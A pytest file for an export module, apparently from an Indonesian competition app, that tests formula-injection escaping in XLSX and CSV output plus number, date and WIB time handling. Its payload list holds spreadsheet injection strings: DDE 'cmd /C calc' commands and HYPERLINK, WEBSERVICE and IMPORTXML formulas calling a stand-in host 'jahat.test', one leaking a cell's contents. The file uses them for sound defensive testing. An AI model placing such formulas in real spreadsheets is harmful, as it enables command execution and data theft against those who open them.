"""Spreadsheets: no text becomes a formula, numbers stay numbers, instants are in WIB."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from kompetisi.queries.ekspor import Kolom, begins_formula, csv_lines, write_xlsx

pytestmark = pytest.mark.fast
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BODIES = [
    "1+1",
    'HYPERLINK("http://jahat.test/?x="&A1,"Klik")',
    "cmd|' /C calc'!A0",
    "SUM(1,1)*cmd|' /C calc'!A0",
    'WEBSERVICE("http://jahat.test/")',
    'IMPORTXML("http://jahat.test/","//a")',
    'DDE("cmd";"/C calc";"x")',
    "\x00\x07=1",
]
BLANKS = ["", " ", "  ", "\u00a0", "\t"]
PAYLOADS = [
    f"{blank}{start}{body}"
    for blank in BLANKS
    for start in STARTS
    for body in BODIES
    if start.strip() or not blank  # blanks before a blank leave plain text
]
COLUMNS = (Kolom("=Kepala", lambda row: row[0]), Kolom("Lain", lambda row: row[1]))


def xlsx(rows) -> bytes:
    file = io.BytesIO()
    write_xlsx(file, judul="Uji", kolom=COLUMNS, rows=rows)
    return file.getvalue()


def test_no_payload_becomes_a_formula():
    content = xlsx((text, text) for text in PAYLOADS)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert len(cells) == 2 * (len(PAYLOADS) + 1)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for row in sheet.iter_rows(min_row=2) for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        raw = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw
    assert b"<f " not in raw


def test_no_payload_is_run_from_csv():
    text = "".join(csv_lines(kolom=COLUMNS, rows=[(p, p) for p in PAYLOADS]))
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=";"))
    assert len(rows) == len(PAYLOADS) + 1
    assert all(cell.startswith("'") for row in rows[1:] for cell in row)


@pytest.mark.parametrize("text", ["Kota Semarang", "021-000", "a=b", "Rp -5", "", "3 + 4"])
def test_harmless_text_is_left_alone(text):
    assert not begins_formula(text)
    assert load_workbook(io.BytesIO(xlsx([(text, "")]))).active["A2"].value == (text or None)


def test_numbers_and_instants_keep_their_kind():
    instant = datetime(2019, 11, 1, 17, 0, tzinfo=UTC)  # midnight in WIB
    sheet = load_workbook(io.BytesIO(xlsx([(instant, -5), (date(2019, 1, 2), Decimal("4.25"))])))
    cells = sheet.active
    assert cells["A2"].value == datetime(2019, 11, 2, 0, 0)
    assert cells["B2"].value == -5
    assert cells["B2"].data_type == "n"
    assert cells["A3"].value == datetime(2019, 1, 2)
    assert cells["B3"].value == 4.25


def test_csv_is_what_an_indonesian_spreadsheet_reads():
    lines = list(csv_lines(kolom=COLUMNS, rows=[(Decimal("4.25"), -5), (True, None)]))
    assert lines[0].startswith("\ufeff")
    assert lines[1] == "4,25;-5\r\n"
    assert lines[2] == "Ya;\r\n"


def test_rows_are_taken_one_at_a_time():
    taken = []

    def rows():
        for number in range(3):
            taken.append(number)
            yield (number, "")

    lines = csv_lines(kolom=COLUMNS, rows=rows())
    next(lines)
    assert taken == []
    next(lines)
    assert taken == [0]
